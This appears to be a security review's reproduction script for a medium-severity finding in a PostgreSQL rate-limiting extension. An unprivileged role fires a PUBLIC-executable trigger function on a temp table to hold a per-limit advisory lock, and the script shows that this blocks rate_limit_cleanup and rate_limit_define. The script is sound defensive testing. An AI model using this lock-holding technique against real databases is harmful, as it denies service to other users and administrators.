#!/usr/bin/env bash
# Finding 2 (medium): any role can hold the per-limit lock (advisory, objsubid 0x524C) of any limit
# for as long as it keeps a transaction open, and so block rate_limit_cleanup() and every definition
# (rate_limit_define, rate_limit_drop) of that limit. The pg_advisory_lock functions cannot reach that
# lock tag (their objsubid is 1 or 2: checked below), but rate_limit_config_row() is executable by
# PUBLIC and takes the lock for whatever row it is fired on, in any table (same root cause as f01).
# Expected: the trigger function refuses to run on anything but the extension's rate_limit_config (or
# is not executable by PUBLIC); cleanup/define are never blocked by an ordinary role.
source "$(dirname "$0")/lib.sh"
setup_review review_f02_attacker

# The attacker's session: take 'default''s lock through a BEFORE DELETE trigger on a temp table, and
# keep the transaction open for 10 seconds.
psql -X -q -At -d "$REVIEW_DB" -U review_f02_attacker >/dev/null 2>&1 <<'SQL' &
CREATE TEMP TABLE t (name text, b text, c float8, d interval, e float8, f float8, g timestamptz);
INSERT INTO t VALUES ('default', NULL, NULL, NULL, NULL, NULL, NULL);
CREATE TRIGGER t BEFORE DELETE ON t FOR EACH ROW EXECUTE FUNCTION public.rate_limit_config_row();
BEGIN;
DELETE FROM t;
SELECT pg_sleep(10);
COMMIT;
SQL
attacker=$!
sleep 3
locks=$(q -c "SELECT count(*) FROM pg_locks l JOIN pg_stat_activity a USING (pid)
              WHERE l.locktype = 'advisory' AND l.objsubid = 21068 AND a.usename = 'review_f02_attacker'")
echo "advisory 0x524C locks held by the attacker: $locks"
# pg_advisory_lock on the same 64-bit value does not collide (objsubid 1): this part holds.
q_any -c "SELECT pg_advisory_lock(hashtextextended('default', 0))" -c "SELECT 'pg_advisory_lock taken'" \
      -c "SELECT pg_advisory_unlock_all()"
cleanup_out=$(q_any -c "SET lock_timeout = '2s'" -c "SELECT rate_limit_cleanup()")
define_out=$(q_any -c "SET lock_timeout = '2s'" -c "SELECT rate_limit_define('default', 120, '1 minute')")
echo "cleanup as superuser: $cleanup_out"
echo "define as superuser:  $define_out"
wait "$attacker"
if [ "$locks" -gt 0 ] && grep -q 'lock timeout' <<<"$define_out$cleanup_out"; then
    reproduced "an ordinary role held limit 'default''s lock and blocked rate_limit_cleanup/rate_limit_define"
fi
holds "no ordinary role can take the per-limit lock"
